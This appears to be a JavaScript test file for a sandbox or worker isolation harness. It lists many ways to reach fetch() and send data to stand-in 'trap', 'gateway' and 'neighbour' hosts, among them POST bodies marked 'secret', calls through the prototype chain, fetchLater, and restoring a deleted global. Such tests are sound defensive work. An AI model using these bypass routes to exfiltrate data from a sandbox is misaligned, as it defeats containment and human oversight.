// Sends data out with fetch(), in every way to get hold of one.
import { probes } from './lib/attack.js';

export default probes(({ trap, gateway, neighbour }) => ({
  plain: () => fetch(trap),
  noCors: () => fetch(trap, { mode: 'no-cors', keepalive: true }),
  post: () => fetch(trap, { method: 'POST', body: 'secret' }),
  request: () => fetch(new Request(trap, { method: 'POST', body: 'secret' })),
  relative: () => fetch('/'),
  gateway: () => fetch(gateway),
  neighbour: () => fetch(neighbour),
  dataUrl: () => fetch('data:,x'),
  blobUrl: () => fetch(URL.createObjectURL(new Blob(['x']))),
  onPrototype: () => WorkerGlobalScope.prototype.fetch.call(globalThis, trap),
  onChain: () => {
    for (let object = globalThis; object; object = Reflect.getPrototypeOf(object)) {
      const own = Reflect.getOwnPropertyDescriptor(object, 'fetch');
      if (own !== undefined && object !== globalThis) return own.value.call(globalThis, trap);
    }
    throw new Error('none');
  },
  later: () => fetchLater(trap),
  fromConstructor: () => Request.prototype.constructor.fetch(trap),
  revived: () => {
    delete globalThis.fetch;
    return globalThis.fetch(trap);
  },
}));
